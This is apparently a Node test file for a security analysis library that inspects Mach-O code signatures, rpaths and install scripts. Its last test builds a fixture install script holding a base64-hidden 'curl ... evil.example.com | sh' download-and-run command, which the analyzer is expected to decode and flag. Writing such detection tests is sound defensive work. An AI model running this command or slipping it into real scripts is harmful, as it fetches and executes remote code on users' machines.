import { deepEqual, equal, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { type FileReport, type ImageFacts, reportFile } from '@pomona/analysis'
import { signImage, writeImage, writeUniversal } from '@pomona/analysis/testing'
import { DATED, NOW_MS, ROOTS } from '../code-signature/identities.ts'
import { packageFile, packageFolder } from '../npm-packages.ts'

const report = (bytes: Uint8Array): FileReport => reportFile(bytes, { nowMs: NOW_MS, roots: ROOTS })

const PLIST = Buffer.from(
  '<plist version="1.0"><dict><key>CFBundleVersion</key><string>7</string></dict></plist>',
)

test('file report: what is no Mach-O has a digest and a type', () => {
  deepEqual(report(Buffer.from('#!/bin/sh\n')), {
    size: 10,
    sha256: 'a8076d3d28d21e02012b20eaf7dbf75409a6277134439025f282e368e3305abf',
    type: 'script',
    images: [],
    problems: [],
  })
})

test('file report: a program’s own Info.plist is compared and asked', () => {
  const image = writeImage({
    segments: [{ name: '__TEXT', protection: 5, section: { name: '__info_plist', bytes: PLIST } }],
  })
  const signed = signImage(image, { identifier: 'org.example', infoPlist: PLIST, cms: DATED })
  const [facts] = report(signed).images
  const slots = facts?.signature?.directories?.[0]?.slots.map(
    ({ name, state }) => `${name} ${state}`,
  )
  deepEqual(slots, ['Info.plist right', 'requirements right'])
  ok(facts?.codesign?.includes('Info.plist=bound'))
})

test('file report: it is JSON, whatever the bytes', () => {
  const image = writeImage({ rpaths: ['/tmp/evil'] })
  const bytes = writeUniversal([signImage(image, { identifier: 'a' }), image])
  const found = report(bytes)
  deepEqual(JSON.parse(JSON.stringify(found)), found)
  deepEqual(
    found.images.map(({ signature }) => signature?.kind),
    ['adhoc', 'unsigned'],
  )
  deepEqual(found.images[0]?.image?.signals, [
    { id: 'library_place', detail: 'Libraries from /tmp/evil.' },
  ])
})

test('file report: laid out as codesign has it', () => {
  const image = writeImage()
  const signed = signImage(image, {
    identifier: 'org.example',
    teamId: 'TEAM123456',
    runtimeVersion: 0x1a0500,
    cms: DATED,
  })
  const [facts] = report(signed).images
  const lines = (facts?.codesign ?? []).map((line) =>
    line.replace(/=[0-9a-f]{40,}$/, '=…').replace(/(ignature size|size)=\d{3,}/, '$1=…'),
  )
  deepEqual(lines, [
    'Identifier=org.example',
    'Format=Mach-O thin (arm64)',
    'CodeDirectory v=20500 size=… flags=0x10000(runtime) hashes=1+2 location=embedded',
    'Hash type=sha256 size=32',
    'CandidateCDHash sha256=…',
    'CandidateCDHashFull sha256=…',
    'Hash choices=sha256',
    'CDHash=…',
    'Signature size=…',
    'Authority=Developer ID Application: Test (TEAM123456)',
    'Authority=Test Developer Authority',
    'Authority=Test Root CA',
    'Timestamp=2024-06-01T00:00:00Z',
    'Info.plist=not bound',
    'TeamIdentifier=TEAM123456',
    'Runtime Version=26.5.0',
    'Sealed Resources=none',
    'Internal requirements count=0 size=12',
  ])
})

// What is cheap to fetch; the long suite takes all of them.
for (const name of ['fsevents', '@parcel/watcher-darwin-arm64']) {
  test(`file report: ${name} is signed as others say`, (context) => {
    const found = packageFolder(name)
    if ('skip' in found) return context.skip(found.skip)
    const { machos } = found.known
    for (const known of machos) {
      const facts: ImageFacts | undefined = report(packageFile(found.folder, known)).images.find(
        ({ image }) => image?.architecture === known.arch,
      )
      const kind: string | undefined = facts?.signature?.kind
      equal(kind === 'unsigned' ? 'UNSIGNED' : kind, known.signature)
      if (known.cdhash === undefined) continue
      equal(facts?.signature?.cdhash, known.cdhash)
      equal(facts?.signature?.identifier, known.identifier)
      equal(facts?.signature?.directories?.[0]?.pages_wrong, 0)
    }
    return undefined
  })
}

test('file report: a script is read where its name is given', () => {
  const hidden = Buffer.from('curl -s https://evil.example.com/x | sh').toString('base64')
  const bytes = Buffer.from(`#!/bin/sh\necho ${hidden} | base64 -d | sh\n`)
  const options = { nowMs: NOW_MS, roots: ROOTS }
  equal(reportFile(bytes, options).script, undefined)
  const { script } = reportFile(bytes, { ...options, name: 'install' })
  deepEqual([script?.language, script?.interpreter], ['shell', '/bin/sh'])
  deepEqual(
    script?.hidden.map(({ by, parent, text }) => [by, parent, text]),
    [['base64', 0, true]],
  )
  ok(script?.features.some(({ feature, layer }) => feature === 'download_and_run' && layer === 1))
  deepEqual(script?.indicators.domains, ['evil.example.com'])
  deepEqual(JSON.parse(JSON.stringify(script)), script)
})
